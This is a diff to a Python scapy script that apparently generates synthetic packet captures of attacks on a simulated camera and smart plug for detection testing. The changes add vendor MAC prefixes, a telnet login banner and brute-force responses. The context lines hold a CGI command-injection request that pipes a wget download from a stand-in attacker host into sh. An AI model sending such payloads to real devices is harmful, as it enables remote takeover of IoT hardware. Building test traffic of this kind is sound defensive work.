@@ -13,8 +13,8 @@ from pathlib import Path
 
 from scapy.all import DNS, DNSQR, DNSRR, IP, TCP, UDP, Ether, Raw, wrpcap
 
-CAMERA = ("192.0.2.10", "02:00:00:00:00:10")
-PLUG = ("192.0.2.20", "02:00:00:00:00:20")
+CAMERA = ("192.0.2.10", "44:47:cc:00:00:10")   # Hikvision OUI
+PLUG = ("192.0.2.20", "b0:be:76:00:00:20")     # TP-Link OUI
 ROUTER_MAC = "02:00:00:00:00:01"
 CLOUD = "203.0.113.10"
 DNS_SERVER = "203.0.113.53"
@@ -31,8 +31,10 @@ class Clock:
         return self.t
 
 
-def tcp_session(clock, client, cmac, server, smac, sport, dport, requests, responses=()):
-    """A complete TCP conversation: handshake, request/response pairs, FIN."""
+def tcp_session(clock, client, cmac, server, smac, sport, dport, requests, responses=(),
+                banner=b""):
+    """A complete TCP conversation: handshake, an optional server banner,
+    request/response pairs, FIN."""
     pkts = []
     c_seq, s_seq = 1000, 5000
 
@@ -49,6 +51,9 @@ def tcp_session(clock, client, cmac, server, smac, sport, dport, requests, respo
     c_seq += 1
     s_seq += 1
     pkts.append(frame(cmac, smac, client, server, sport, dport, "A", c_seq, s_seq))
+    if banner:
+        pkts.append(frame(smac, cmac, server, client, dport, sport, "PA", s_seq, c_seq, banner))
+        s_seq += len(banner)
     for i, req in enumerate(requests):
         pkts.append(frame(cmac, smac, client, server, sport, dport, "PA", c_seq, s_seq, req))
         c_seq += len(req)
@@ -90,7 +95,7 @@ def build() -> list:
         pkts += tcp_session(
             clock, ATTACKER, ROUTER_MAC, PLUG[0], PLUG[1], 50000 + i, 23,
             [user + b"\r\n", pw + b"\r\n"],
-            [b"\r\nlogin: ", b"Password: "])
+            [b"Password: ", b"\r\nLogin incorrect\r\n"], banner=b"\r\nplug login: ")
     # Attack 2: command injection on the camera's CGI (virtual patch).
     inject = (b"GET /cgi-bin/admin.cgi?cmd=;wget%20http://198.51.100.66/m.sh%20-O-|sh HTTP/1.1\r\n"
               b"Host: 192.0.2.10\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
